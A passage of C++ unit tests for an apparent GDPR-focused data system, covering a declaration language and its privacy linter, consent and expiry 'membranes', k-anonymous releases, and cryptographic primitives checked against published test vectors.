  };
}
)");
  ASSERT_TRUE(decl.ok()) << decl.status().ToString();
  const auto& f = decl->fields;
  EXPECT_EQ(*f[0].constraints.max_len, 64u);
  EXPECT_TRUE(f[0].constraints.not_empty);
  EXPECT_EQ(*f[1].constraints.min_value, 1900);
  EXPECT_EQ(*f[1].constraints.max_value, 2100);
  EXPECT_TRUE(f[2].nullable);
  EXPECT_EQ(*f[2].constraints.max_len, 1000u);
  EXPECT_FALSE(f[2].constraints.not_empty);

  // Constraints are enforced by the schema.
  const db::Schema schema = decl->ToSchema();
  db::Row good{db::Value(std::string("alice")),
               db::Value(std::int64_t{1990}), db::Value()};
  EXPECT_TRUE(schema.ValidateRow(good).ok());
  db::Row too_old{db::Value(std::string("a")),
                  db::Value(std::int64_t{1800}), db::Value()};
  EXPECT_FALSE(schema.ValidateRow(too_old).ok());
  db::Row empty_name{db::Value(std::string("")),
                     db::Value(std::int64_t{1990}), db::Value()};
  EXPECT_FALSE(schema.ValidateRow(empty_name).ok());
  db::Row long_name{db::Value(std::string(100, 'x')),
                    db::Value(std::int64_t{1990}), db::Value()};
  EXPECT_FALSE(schema.ValidateRow(long_name).ok());
}

TEST(ParserTest, ConstraintsSyntaxErrors) {
  EXPECT_FALSE(ParseType("type t { fields { a: int min } }").ok());
  EXPECT_FALSE(ParseType("type t { fields { a: int min abc } }").ok());
}

TEST(CodecTest, ConstraintsSurviveRoundTrip) {
  auto decl = ParseType(
      "type t { fields { a: int min 1 max 9, b: string max_len 3 "
      "not_empty } }");
  ASSERT_TRUE(decl.ok());
  auto decoded = DecodeTypeDecl(EncodeTypeDecl(*decl));
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(*decoded->fields[0].constraints.min_value, 1);
  EXPECT_EQ(*decoded->fields[0].constraints.max_value, 9);
  EXPECT_EQ(*decoded->fields[1].constraints.max_len, 3u);
  EXPECT_TRUE(decoded->fields[1].constraints.not_empty);
}


// ---- Privacy-by-design linter ---------------------------------------------------------

TEST(LintTest, CleanDeclarationHasNoWarnings) {
  auto decl = ParseType(R"(
type user {
  fields { name: string max_len 64, year: int min 1900 max 2100 };
  view v_year { year };
  consent { analytics: v_year };
  collection { web_form: f.html };
  origin: subject;
  age: 1Y;
  sensitivity: high;
}
)");
  ASSERT_TRUE(decl.ok());
  EXPECT_TRUE(LintType(*decl).empty());
}

TEST(LintTest, FlagsPrivacyHostilePatterns) {
  auto decl = ParseType(R"(
type hoard {
  fields { full_name: string, email: string, notes: string };
  consent { p1: all, p2: all, p3: all, p4: all, p5: all,
            p6: all, p7: all, p8: all, p9: all };
  origin: subject;
  sensitivity: high;
}
)");
  ASSERT_TRUE(decl.ok());
  const auto warnings = LintType(*decl);
  std::set<LintRule> rules;
  for (const LintWarning& w : warnings) rules.insert(w.rule);
  EXPECT_TRUE(rules.count(LintRule::kNoViews));
  EXPECT_TRUE(rules.count(LintRule::kNoTtl));
  EXPECT_TRUE(rules.count(LintRule::kUnboundedIdentifier));
  EXPECT_TRUE(rules.count(LintRule::kNoCollection));
  EXPECT_TRUE(rules.count(LintRule::kManyPurposes));
  // kBroadConsent needs views to exist; it must NOT fire here.
  EXPECT_FALSE(rules.count(LintRule::kBroadConsent));
}

TEST(LintTest, BroadConsentRequiresViewsToExist) {
  auto decl = ParseType(R"(
type t {
  fields { a: string max_len 4, b: int };
  view v { b };
  consent { wide: all, narrow: v };
  collection { web_form: f.html };
  origin: subject;
  sensitivity: low;
}
)");
  ASSERT_TRUE(decl.ok());
  const auto warnings = LintType(*decl);
  ASSERT_EQ(warnings.size(), 1u);
  EXPECT_EQ(warnings[0].rule, LintRule::kBroadConsent);
  EXPECT_NE(warnings[0].detail.find("wide"), std::string::npos);
  EXPECT_EQ(LintRuleName(warnings[0].rule), "broad-consent");
}

// ---- Purpose declarations ----------------------------------------------------------------

TEST(ParserTest, PurposeDeclaration) {
  auto purpose = ParsePurpose(R"(
purpose purpose3 {
  input: user.v_ano;
  output: age;
  description: "compute the age of a user";
}
)");
  ASSERT_TRUE(purpose.ok()) << purpose.status().ToString();
  EXPECT_EQ(purpose->name, "purpose3");
  EXPECT_EQ(purpose->input_type, "user");
  EXPECT_EQ(purpose->input_view, "v_ano");
  EXPECT_EQ(purpose->output_type, "age");
  EXPECT_EQ(purpose->description, "compute the age of a user");
}

TEST(ParserTest, PurposeWithoutViewOrOutput) {
  auto purpose = ParsePurpose("purpose p { input: user; }");
  ASSERT_TRUE(purpose.ok());
  EXPECT_EQ(purpose->input_type, "user");
  EXPECT_TRUE(purpose->input_view.empty());
  EXPECT_TRUE(purpose->output_type.empty());
}

TEST(ParserTest, PurposeRequiresInput) {
  EXPECT_FALSE(ParsePurpose("purpose p { description: \"no input\"; }").ok());
}

TEST(ParserTest, PurposeAutomatedClause) {
  auto automated =
      ParsePurpose("purpose p { input: user; automated: true; }");
  ASSERT_TRUE(automated.ok()) << automated.status().ToString();
  EXPECT_TRUE(automated->automated);
  auto manual = ParsePurpose("purpose p { input: user; automated: false; }");
  ASSERT_TRUE(manual.ok());
  EXPECT_FALSE(manual->automated);
  // Unspecified defaults to manual — Art. 22 only bites on opt-in decls.
  auto unspecified = ParsePurpose("purpose p { input: user; }");
  ASSERT_TRUE(unspecified.ok());
  EXPECT_FALSE(unspecified->automated);
  EXPECT_FALSE(
      ParsePurpose("purpose p { input: user; automated: maybe; }").ok());
}

TEST(ParserTest, MixedProgram) {
  auto program = Parse(
      "type a { fields { x: int } }\n"
      "purpose p { input: a; }\n"
      "type b { fields { y: string } }\n");
  ASSERT_TRUE(program.ok());
  EXPECT_EQ(program->types.size(), 2u);
  EXPECT_EQ(program->purposes.size(), 1u);
}

// ---- AST helpers ---------------------------------------------------------------------------

TEST(TypeDeclTest, ViewFieldsResolution) {
  auto decl = ParseType(kListing1);
  ASSERT_TRUE(decl.ok());
  auto all = decl->ViewFields("all");
  ASSERT_TRUE(all.ok());
  EXPECT_EQ(all->size(), 3u);
  auto ano = decl->ViewFields("v_ano");
  ASSERT_TRUE(ano.ok());
  EXPECT_EQ(*ano, std::set<std::string>{"year_of_birthdate"});
  EXPECT_FALSE(decl->ViewFields("nope").ok());
  EXPECT_TRUE(decl->HasView("v_name"));
  EXPECT_FALSE(decl->HasView("v_nope"));
}

TEST(TypeDeclTest, DefaultMembraneMatchesDeclaration) {
  auto decl = ParseType(kListing1);
  ASSERT_TRUE(decl.ok());
  const membrane::Membrane m = decl->DefaultMembrane(42, 1'000'000);
  EXPECT_EQ(m.subject_id, 42u);
  EXPECT_EQ(m.type_name, "user");
  EXPECT_EQ(m.created_at, 1'000'000);
  EXPECT_EQ(m.ttl, kMicrosPerYear);
  EXPECT_EQ(m.sensitivity, membrane::Sensitivity::kHigh);
  EXPECT_EQ(m.consents.at("purpose1").kind, membrane::ConsentKind::kAll);
  EXPECT_EQ(m.consents.at("purpose3").view, "v_ano");
  EXPECT_EQ(m.collection.size(), 2u);
}

TEST(TypeDeclTest, ToSchema) {
  auto decl = ParseType(kListing1);
  ASSERT_TRUE(decl.ok());
  const db::Schema schema = decl->ToSchema();
  EXPECT_EQ(schema.name(), "user");
  EXPECT_EQ(schema.field_count(), 3u);
  EXPECT_TRUE(schema.HasField("pwd"));
}

// ---- Codec ------------------------------------------------------------------------------------

TEST(CodecTest, TypeDeclRoundTrip) {
  auto decl = ParseType(kListing1);
  ASSERT_TRUE(decl.ok());
  auto decoded = DecodeTypeDecl(EncodeTypeDecl(*decl));
  ASSERT_TRUE(decoded.ok()) << decoded.status().ToString();
  EXPECT_EQ(decoded->name, decl->name);
  EXPECT_EQ(decoded->fields.size(), decl->fields.size());
  EXPECT_EQ(decoded->views.size(), decl->views.size());
  EXPECT_EQ(decoded->default_consents.size(),
            decl->default_consents.size());
  EXPECT_EQ(decoded->collection.size(), decl->collection.size());
  EXPECT_EQ(decoded->origin, decl->origin);
  EXPECT_EQ(decoded->ttl, decl->ttl);
  EXPECT_EQ(decoded->sensitivity, decl->sensitivity);
  EXPECT_TRUE(decoded->Validate().ok());
}

TEST(CodecTest, PurposeDeclRoundTrip) {
  PurposeDecl purpose;
  purpose.name = "p";
  purpose.input_type = "user";
  purpose.input_view = "v";
  purpose.output_type = "age";
  purpose.description = "desc";
  auto decoded = DecodePurposeDecl(EncodePurposeDecl(purpose));
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(decoded->name, "p");
  EXPECT_EQ(decoded->input_view, "v");
  EXPECT_EQ(decoded->description, "desc");
  EXPECT_FALSE(decoded->automated);
  purpose.automated = true;
  auto redecoded = DecodePurposeDecl(EncodePurposeDecl(purpose));
  ASSERT_TRUE(redecoded.ok());
  EXPECT_TRUE(redecoded->automated);
}

TEST(CodecTest, PurposeDeclLegacyWireWithoutAutomatedFlag) {
  // A registry written before the `automated` flag existed ends right
  // after the description. Decoding those bytes must yield automated ==
  // false, not a corruption error.
  PurposeDecl purpose;
  purpose.name = "p";
  purpose.input_type = "user";
  Bytes wire = EncodePurposeDecl(purpose);
  wire.pop_back();  // the trailing automated bool
  auto decoded = DecodePurposeDecl(wire);
  ASSERT_TRUE(decoded.ok()) << decoded.status().ToString();
  EXPECT_EQ(decoded->name, "p");
  EXPECT_FALSE(decoded->automated);
}

TEST(CodecTest, DecodeRejectsGarbage) {
  EXPECT_FALSE(DecodeTypeDecl(ToBytes("nonsense")).ok());
}

}  // namespace
}  // namespace rgpdos::dsl
