// Membrane tests: consent evaluation, TTL expiry, serialization, and the
// version discipline that backs copy-consistency.
#include <gtest/gtest.h>

#include "membrane/membrane.hpp"

namespace rgpdos::membrane {
namespace {

Membrane MakeMembrane() {
  Membrane m;
  m.subject_id = 42;
  m.type_name = "user";
  m.origin = Origin::kSubject;
  m.sensitivity = Sensitivity::kHigh;
  m.created_at = 1000;
  m.ttl = 500;
  m.consents["purpose1"] = Consent::All();
  m.consents["purpose2"] = Consent::None();
  m.consents["purpose3"] = Consent::ForView("v_ano");
  m.collection.push_back({"web_form", "user_form.html"});
  m.copy_group = 7;
  return m;
}

TEST(MembraneTest, EvaluateGrantsAll) {
  const Membrane m = MakeMembrane();
  auto consent = m.Evaluate("purpose1", 1200);
  ASSERT_TRUE(consent.ok());
  EXPECT_EQ(consent->kind, ConsentKind::kAll);
}

TEST(MembraneTest, EvaluateGrantsView) {
  const Membrane m = MakeMembrane();
  auto consent = m.Evaluate("purpose3", 1200);
  ASSERT_TRUE(consent.ok());
  EXPECT_EQ(consent->kind, ConsentKind::kView);
  EXPECT_EQ(consent->view, "v_ano");
}

TEST(MembraneTest, EvaluateDeniesExplicitNone) {
  const Membrane m = MakeMembrane();
  auto consent = m.Evaluate("purpose2", 1200);
  EXPECT_EQ(consent.status().code(), StatusCode::kConsentDenied);
}

TEST(MembraneTest, UnknownPurposeIsDeniedByDefault) {
  const Membrane m = MakeMembrane();
  EXPECT_EQ(m.Evaluate("marketing", 1200).status().code(),
            StatusCode::kConsentDenied);
}

TEST(MembraneTest, TtlExpiryBeatsConsent) {
  const Membrane m = MakeMembrane();  // expires at 1500
  EXPECT_FALSE(m.ExpiredAt(1499));
  EXPECT_TRUE(m.ExpiredAt(1500));
  EXPECT_EQ(m.Evaluate("purpose1", 1500).status().code(),
            StatusCode::kExpired);
}

TEST(MembraneTest, ZeroTtlNeverExpires) {
  Membrane m = MakeMembrane();
  m.ttl = 0;
  EXPECT_FALSE(m.ExpiredAt(std::numeric_limits<TimeMicros>::max() / 2));
  EXPECT_FALSE(m.ExpiredAt(std::numeric_limits<TimeMicros>::max()));
}

TEST(MembraneTest, ExpiryBoundaryIsExact) {
  Membrane m = MakeMembrane();  // created_at 1000, ttl 500
  EXPECT_FALSE(m.ExpiredAt(1000));
  EXPECT_FALSE(m.ExpiredAt(1499));
  EXPECT_TRUE(m.ExpiredAt(1500));  // now == created_at + ttl is expired
  EXPECT_TRUE(m.ExpiredAt(1501));
}

TEST(MembraneTest, HugeTtlDoesNotOverflow) {
  // created_at + ttl would wrap past INT64_MAX; a membrane with an
  // effectively-infinite TTL must read as fresh, not expired-at-birth.
  Membrane m = MakeMembrane();
  m.created_at = 1000;
  m.ttl = std::numeric_limits<TimeMicros>::max() - 10;
  EXPECT_FALSE(m.ExpiredAt(m.created_at));
  EXPECT_FALSE(m.ExpiredAt(std::numeric_limits<TimeMicros>::max() / 2));
  ASSERT_TRUE(m.Evaluate("purpose1", 2000).ok());
}

TEST(MembraneTest, SetTtlShortenAndLengthenMidLife) {
  Membrane m = MakeMembrane();  // created_at 1000, ttl 500
  m.SetTtl(100);                // shorten: already past the new deadline
  EXPECT_TRUE(m.ExpiredAt(1200));
  EXPECT_EQ(m.Evaluate("purpose1", 1200).status().code(),
            StatusCode::kExpired);
  m.SetTtl(1000);  // lengthen: the same instant is in-life again
  EXPECT_FALSE(m.ExpiredAt(1200));
  EXPECT_TRUE(m.Evaluate("purpose1", 1200).ok());
  EXPECT_TRUE(m.ExpiredAt(2000));
}

TEST(MembraneTest, EqualityComparesCollectionContents) {
  const Membrane a = MakeMembrane();
  Membrane b = MakeMembrane();
  EXPECT_EQ(a, b);
  // Same number of collection interfaces, different contents — these
  // membranes are NOT interchangeable (the DED shows the collection
  // provenance to the subject).
  b.collection[0].target = "other_form.html";
  EXPECT_FALSE(a == b);
  b = MakeMembrane();
  b.collection[0].method = "third_party";
  EXPECT_FALSE(a == b);
}

TEST(MembraneTest, MutationsBumpVersion) {
  Membrane m = MakeMembrane();
  const std::uint64_t v0 = m.version;
  m.GrantConsent("purpose2", Consent::All());
  EXPECT_EQ(m.version, v0 + 1);
  m.RevokeConsent("purpose1");
  EXPECT_EQ(m.version, v0 + 2);
  m.SetTtl(9999);
  EXPECT_EQ(m.version, v0 + 3);
  EXPECT_EQ(m.consents.at("purpose1").kind, ConsentKind::kNone);
  EXPECT_EQ(m.consents.at("purpose2").kind, ConsentKind::kAll);
}

TEST(MembraneTest, RevokeUnknownPurposeStillRecordsDenial) {
  Membrane m = MakeMembrane();
  m.RevokeConsent("never_granted");
  EXPECT_EQ(m.consents.at("never_granted").kind, ConsentKind::kNone);
}

// ---- Art. 21 objection / Art. 22 automated-decision opt-out ---------------

TEST(MembraneTest, ObjectionBeatsStandingConsent) {
  Membrane m = MakeMembrane();
  ASSERT_TRUE(m.Evaluate("purpose1", 1200).ok());
  m.Object("purpose1");
  EXPECT_TRUE(m.ObjectedTo("purpose1"));
  EXPECT_EQ(m.Evaluate("purpose1", 1200).status().code(),
            StatusCode::kObjected);
  // The objection is its own axis: consent is still recorded as granted,
  // and other purposes are untouched.
  EXPECT_EQ(m.consents.at("purpose1").kind, ConsentKind::kAll);
  EXPECT_TRUE(m.Evaluate("purpose3", 1200).ok());
}

TEST(MembraneTest, ObjectionSurvivesConsentRegrant) {
  // Art. 21 is sticky: a later (perhaps dark-pattern) consent re-grant
  // must NOT clear the objection — only an explicit withdrawal does.
  Membrane m = MakeMembrane();
  m.Object("purpose1");
  m.GrantConsent("purpose1", Consent::All());
  EXPECT_EQ(m.Evaluate("purpose1", 1200).status().code(),
            StatusCode::kObjected);
  m.WithdrawObjection("purpose1");
  EXPECT_TRUE(m.Evaluate("purpose1", 1200).ok());
}

TEST(MembraneTest, AutomatedDecisionOptOut) {
  Membrane m = MakeMembrane();
  m.SetNoAutomatedDecision(true);
  // Only automated evaluations are blocked; the same purpose evaluated
  // for a human-in-the-loop processing still passes.
  EXPECT_EQ(m.Evaluate("purpose1", 1200, /*automated_decision=*/true)
                .status()
                .code(),
            StatusCode::kObjected);
  EXPECT_TRUE(m.Evaluate("purpose1", 1200, false).ok());
  m.SetNoAutomatedDecision(false);
  EXPECT_TRUE(m.Evaluate("purpose1", 1200, true).ok());
}

TEST(MembraneTest, ObjectionMutationsBumpVersionLikeConsent) {
  // The version counter is what invalidates the record/decision caches;
  // an objection that does not bump it would be served stale forever.
  Membrane m = MakeMembrane();
  const std::uint64_t v0 = m.version;
  m.Object("purpose1");
  EXPECT_EQ(m.version, v0 + 1);
  m.WithdrawObjection("purpose1");
  EXPECT_EQ(m.version, v0 + 2);
  m.SetNoAutomatedDecision(true);
  EXPECT_EQ(m.version, v0 + 3);
}

TEST(MembraneTest, EqualityComparesObjectionState) {
  const Membrane a = MakeMembrane();
  Membrane b = MakeMembrane();
  b.Object("purpose1");
  EXPECT_FALSE(a == b);
  b = MakeMembrane();
  b.SetNoAutomatedDecision(true);
  EXPECT_FALSE(a == b);
}

TEST(MembraneTest, SerializationRoundTripWithObjections) {
  Membrane m = MakeMembrane();
  m.Object("purpose1");
  m.Object("marketing");
  m.SetNoAutomatedDecision(true);
  auto decoded = Membrane::Deserialize(m.Serialize());
  ASSERT_TRUE(decoded.ok()) << decoded.status().ToString();
  EXPECT_EQ(*decoded, m);
  EXPECT_TRUE(decoded->ObjectedTo("purpose1"));
  EXPECT_TRUE(decoded->ObjectedTo("marketing"));
  EXPECT_TRUE(decoded->no_automated_decision);
}

TEST(MembraneTest, LegacyWireWithoutObjectionFieldsDecodes) {
  // Membranes persisted before the objection fields end right after the
  // version: decoding them must succeed with no objections and the
  // automated-decision bit clear (trailing-field back-compat).
  const Membrane m = MakeMembrane();
  Bytes wire = m.Serialize();
  // Current tail = varint(0) objection count + 1 bool byte.
  wire.resize(wire.size() - 2);
  auto decoded = Membrane::Deserialize(wire);
  ASSERT_TRUE(decoded.ok()) << decoded.status().ToString();
  EXPECT_EQ(*decoded, m);
  EXPECT_TRUE(decoded->objections.empty());
  EXPECT_FALSE(decoded->no_automated_decision);
}

TEST(MembraneTest, SerializationRoundTrip) {
  const Membrane m = MakeMembrane();
  auto decoded = Membrane::Deserialize(m.Serialize());
  ASSERT_TRUE(decoded.ok()) << decoded.status().ToString();
  EXPECT_EQ(*decoded, m);
  EXPECT_EQ(decoded->collection.size(), 1u);
  EXPECT_EQ(decoded->collection[0].method, "web_form");
  EXPECT_EQ(decoded->collection[0].target, "user_form.html");
}

TEST(MembraneTest, DeserializeRejectsGarbage) {
  EXPECT_FALSE(Membrane::Deserialize(ToBytes("x")).ok());
  // Corrupt the origin byte past the enum range.
  Bytes wire = MakeMembrane().Serialize();
  // origin is right after subject_id (8B) + type_name (varint len + 4).
  wire[8 + 1 + 4] = 99;
  EXPECT_FALSE(Membrane::Deserialize(wire).ok());
}

TEST(MembraneTest, EnumNames) {
  EXPECT_EQ(OriginName(Origin::kSubject), "subject");
  EXPECT_EQ(OriginName(Origin::kDerived), "derived");
  EXPECT_EQ(SensitivityName(Sensitivity::kHigh), "high");
}

}  // namespace
}  // namespace rgpdos::membrane
