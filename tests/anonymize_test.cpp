// Anonymization built-in tests: generalisation, k-anonymity suppression,
// the PD -> NPD boundary, and transparency logging.
#include <gtest/gtest.h>

#include "core/rgpdos.hpp"

namespace rgpdos::core {
namespace {

constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

class AnonymizeTest : public ::testing::Test {
 protected:
  void SetUp() override {
    BootConfig config;
    config.use_sim_clock = true;
    auto os = RgpdOs::Boot(config);
    ASSERT_TRUE(os.ok());
    os_ = std::move(os).value();
    ASSERT_TRUE(os_->DeclareTypes(R"(
type patient {
  fields { name: string, zip: string, year_of_birthdate: int };
  consent { care: all };
  origin: subject;
  age: 10Y;
  sensitivity: high;
}
)")
                    .ok());
  }

  void PutPatient(std::uint64_t subject, const std::string& name,
                  const std::string& zip, std::int64_t year) {
    auto type = os_->dbfs().GetType(kDed, "patient");
    membrane::Membrane m =
        (*type)->DefaultMembrane(subject, os_->clock().Now());
    ASSERT_TRUE(os_->dbfs()
                    .Put(kDed, subject, "patient",
                         db::Row{db::Value(name), db::Value(zip),
                                 db::Value(year)},
                         std::move(m))
                    .ok());
  }

  AnonymizationSpec DecadeByZipPrefix() {
    AnonymizationSpec spec;
    spec.rules["zip"] = FieldRule::Prefix(2);
    spec.rules["year_of_birthdate"] = FieldRule::Bucket(10);
    spec.k = 2;
    return spec;
  }

  std::unique_ptr<RgpdOs> os_;
};

TEST_F(AnonymizeTest, ReleasesKAnonymousGroupsAsCsv) {
  // Three patients share (zip=69*, decade 1980s); one is unique.
  PutPatient(1, "alice_unique_name", "69001", 1983);
  PutPatient(2, "bob_unique_name", "69100", 1987);
  PutPatient(3, "carol_unique_name", "69800", 1981);
  PutPatient(4, "dave_unique_name", "75001", 1950);

  auto result = os_->anonymizer().Release("patient", DecadeByZipPrefix(),
                                          &os_->npd_fs(), "/anon.csv");
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_EQ(result->source_records, 4u);
  EXPECT_EQ(result->released_groups, 1u);
  EXPECT_EQ(result->suppressed_groups, 1u);
  EXPECT_EQ(result->suppressed_records, 1u);

  auto csv = os_->npd_fs().ReadFile("/anon.csv");
  ASSERT_TRUE(csv.ok());
  const std::string text = ToString(*csv);
  EXPECT_NE(text.find("zip,year_of_birthdate,count"), std::string::npos);
  EXPECT_NE(text.find("69*,1980..1989,3"), std::string::npos);
  // The suppressed singleton (75*, 1950s) must NOT appear.
  EXPECT_EQ(text.find("75*"), std::string::npos);
  // No identifying field ever reaches the NPD side.
  EXPECT_EQ(text.find("alice_unique_name"), std::string::npos);
  EXPECT_EQ(text.find("69001"), std::string::npos);
}

TEST_F(AnonymizeTest, ReleaseIsLoggedPerContributingRecord) {
  PutPatient(1, "a", "69001", 1983);
  PutPatient(2, "b", "69100", 1987);
  ASSERT_TRUE(os_->anonymizer()
                  .Release("patient", DecadeByZipPrefix(), &os_->npd_fs(),
                           "/anon.csv")
                  .ok());
  // Both subjects see the release in their processing history.
  for (std::uint64_t subject : {1u, 2u}) {
    bool found = false;
    for (const LogEntry& e : os_->processing_log().ForSubject(subject)) {
      found |= e.purpose == "anonymized_release";
    }
    EXPECT_TRUE(found) << subject;
  }
}

TEST_F(AnonymizeTest, ExpiredAndErasedRecordsDoNotContribute) {
  PutPatient(1, "a", "69001", 1983);
  PutPatient(2, "b", "69100", 1987);
  PutPatient(3, "c", "69200", 1985);
  // Erase subject 3; expire nobody yet.
  ASSERT_TRUE(os_->RightToBeForgotten(3).ok());
  auto result = os_->anonymizer().Release("patient", DecadeByZipPrefix(),
                                          &os_->npd_fs(), "/anon.csv");
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->source_records, 2u);

  // Push everything past the 10Y TTL: nothing releases at all.
  os_->sim_clock()->Advance(10 * kMicrosPerYear + 1);
  result = os_->anonymizer().Release("patient", DecadeByZipPrefix(),
                                     &os_->npd_fs(), "/anon2.csv");
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result->source_records, 0u);
  EXPECT_EQ(result->released_groups, 0u);
}

TEST_F(AnonymizeTest, SpecValidation) {
  PutPatient(1, "a", "69001", 1983);
  AnonymizationSpec empty;
  EXPECT_FALSE(os_->anonymizer()
                   .Release("patient", empty, &os_->npd_fs(), "/x.csv")
                   .ok());
  AnonymizationSpec k1 = DecadeByZipPrefix();
  k1.k = 1;
  EXPECT_FALSE(os_->anonymizer()
                   .Release("patient", k1, &os_->npd_fs(), "/x.csv")
                   .ok());
  AnonymizationSpec bad_field = DecadeByZipPrefix();
  bad_field.rules["no_such_field"] = FieldRule::Keep();
  EXPECT_FALSE(os_->anonymizer()
                   .Release("patient", bad_field, &os_->npd_fs(), "/x.csv")
                   .ok());
  EXPECT_FALSE(os_->anonymizer()
                   .Release("no_such_type", DecadeByZipPrefix(),
                            &os_->npd_fs(), "/x.csv")
                   .ok());
}

TEST_F(AnonymizeTest, BucketHandlesNegativeAndBoundaryValues) {
  PutPatient(1, "a", "69001", -5);
  PutPatient(2, "b", "69100", -1);
  PutPatient(3, "c", "69200", 0);
  PutPatient(4, "d", "69300", 9);
  AnonymizationSpec spec;
  spec.rules["year_of_birthdate"] = FieldRule::Bucket(10);
  spec.k = 2;
  auto result = os_->anonymizer().Release("patient", spec, &os_->npd_fs(),
                                          "/buckets.csv");
  ASSERT_TRUE(result.ok());
  const std::string text =
      ToString(*os_->npd_fs().ReadFile("/buckets.csv"));
  // -5 and -1 fall into [-10..-1]; 0 and 9 into [0..9].
  EXPECT_NE(text.find("-10..-1,2"), std::string::npos);
  EXPECT_NE(text.find("0..9,2"), std::string::npos);
}

}  // namespace
}  // namespace rgpdos::core
