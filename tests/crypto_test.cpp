// Crypto substrate tests: SHA-256 / HMAC / ChaCha20 pinned to published
// test vectors; BigUint arithmetic properties; RSA-OAEP and the erasure
// envelope end to end.
#include <gtest/gtest.h>

#include "common/hex.hpp"
#include "crypto/bigint.hpp"
#include "crypto/chacha20.hpp"
#include "crypto/envelope.hpp"
#include "crypto/hmac.hpp"
#include "crypto/rsa.hpp"
#include "crypto/sha256.hpp"

namespace rgpdos::crypto {
namespace {

std::string DigestHex(const Sha256Digest& digest) {
  return HexEncode(ByteSpan(digest.data(), digest.size()));
}

// ---- SHA-256 (FIPS 180-4 / NIST CAVP vectors) -------------------------------------

TEST(Sha256Test, EmptyString) {
  EXPECT_EQ(
      DigestHex(Sha256Hash(ByteSpan{})),
      "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
}

TEST(Sha256Test, Abc) {
  EXPECT_EQ(
      DigestHex(Sha256Hash(ToBytes("abc"))),
      "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
}

TEST(Sha256Test, TwoBlockMessage) {
  EXPECT_EQ(
      DigestHex(Sha256Hash(ToBytes(
          "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"))),
      "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
}

TEST(Sha256Test, MillionAs) {
  Sha256 h;
  const Bytes chunk(1000, 'a');
  for (int i = 0; i < 1000; ++i) h.Update(chunk);
  EXPECT_EQ(
      DigestHex(h.Finish()),
      "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
}

TEST(Sha256Test, IncrementalMatchesOneShotAtEverySplit) {
  const Bytes msg = ToBytes(
      "a slightly longer message that straddles block boundaries when "
      "split at various offsets 0123456789 0123456789 0123456789");
  const Sha256Digest expected = Sha256Hash(msg);
  for (std::size_t split = 0; split <= msg.size(); split += 7) {
    Sha256 h;
    h.Update(ByteSpan(msg.data(), split));
    h.Update(ByteSpan(msg.data() + split, msg.size() - split));
    EXPECT_EQ(h.Finish(), expected) << "split at " << split;
  }
}

// ---- HMAC-SHA256 (RFC 4231) -----------------------------------------------------------

TEST(HmacTest, Rfc4231Case1) {
  const Bytes key(20, 0x0b);
  EXPECT_EQ(
      DigestHex(HmacSha256(key, ToBytes("Hi There"))),
      "b0344c61d8db38535ca8afceaf0bf12b881dc200c9833da726e9376c2e32cff7");
}

TEST(HmacTest, Rfc4231Case2) {
  EXPECT_EQ(
      DigestHex(HmacSha256(ToBytes("Jefe"),
                           ToBytes("what do ya want for nothing?"))),
      "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843");
}

TEST(HmacTest, Rfc4231Case6LongKey) {
  const Bytes key(131, 0xaa);
  EXPECT_EQ(
      DigestHex(HmacSha256(
          key, ToBytes("Test Using Larger Than Block-Size Key - Hash Key "
                       "First"))),
      "60e431591ee0b67f0d8a26aacbf5b77f8e0bc6213728c5140546040f0ee37f54");
}

TEST(HmacTest, DigestEqualIsConstantTimeCorrect) {
  Sha256Digest a = Sha256Hash(ToBytes("x"));
  Sha256Digest b = a;
  EXPECT_TRUE(DigestEqual(a, b));
  b[31] ^= 1;
  EXPECT_FALSE(DigestEqual(a, b));
}

// ---- ChaCha20 (RFC 8439) -----------------------------------------------------------------

TEST(ChaCha20Test, Rfc8439BlockFunction) {
  // RFC 8439 §2.3.2 test vector.
  ChaChaKey key;
  for (int i = 0; i < 32; ++i) key[i] = static_cast<std::uint8_t>(i);
  ChaChaNonce nonce = {0x00, 0x00, 0x00, 0x09, 0x00, 0x00,
                       0x00, 0x4a, 0x00, 0x00, 0x00, 0x00};
  const auto block = ChaCha20Block(key, nonce, 1);
  EXPECT_EQ(
      HexEncode(ByteSpan(block.data(), block.size())),
      "10f1e7e4d13b5915500fdd1fa32071c4c7d1f4c733c068030422aa9ac3d46c4e"
      "d2826446079faa0914c2d705d98b02a2b5129cd1de164eb9cbd083e8a2503c4e");
}

TEST(ChaCha20Test, Rfc8439Encryption) {
  // RFC 8439 §2.4.2.
  ChaChaKey key;
  for (int i = 0; i < 32; ++i) key[i] = static_cast<std::uint8_t>(i);
  ChaChaNonce nonce = {0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
                       0x00, 0x4a, 0x00, 0x00, 0x00, 0x00};
  const Bytes plaintext = ToBytes(
      "Ladies and Gentlemen of the class of '99: If I could offer you "
      "only one tip for the future, sunscreen would be it.");
  const Bytes ciphertext = ChaCha20Xor(key, nonce, 1, plaintext);
  EXPECT_EQ(HexEncode(ByteSpan(ciphertext.data(), 32)),
            "6e2e359a2568f98041ba0728dd0d6981e97e7aec1d4360c20a27afccfd9fae0b");
  // Stream cipher: decryption is the same operation.
  EXPECT_EQ(ChaCha20Xor(key, nonce, 1, ciphertext), plaintext);
}

TEST(ChaCha20Test, DifferentNoncesGiveDifferentStreams) {
  ChaChaKey key{};
  ChaChaNonce n1{}, n2{};
  n2[0] = 1;
  const Bytes zeros(64, 0);
  EXPECT_NE(ChaCha20Xor(key, n1, 0, zeros), ChaCha20Xor(key, n2, 0, zeros));
}

// ---- BigUint --------------------------------------------------------------------------------

TEST(BigUintTest, DecimalRoundTrip) {
  const char* cases[] = {"0", "1", "4294967295", "4294967296",
                         "340282366920938463463374607431768211456",
                         "123456789012345678901234567890"};
  for (const char* text : cases) {
    auto v = BigUint::FromDecimal(text);
    ASSERT_TRUE(v.ok());
    EXPECT_EQ(v->ToDecimal(), text);
  }
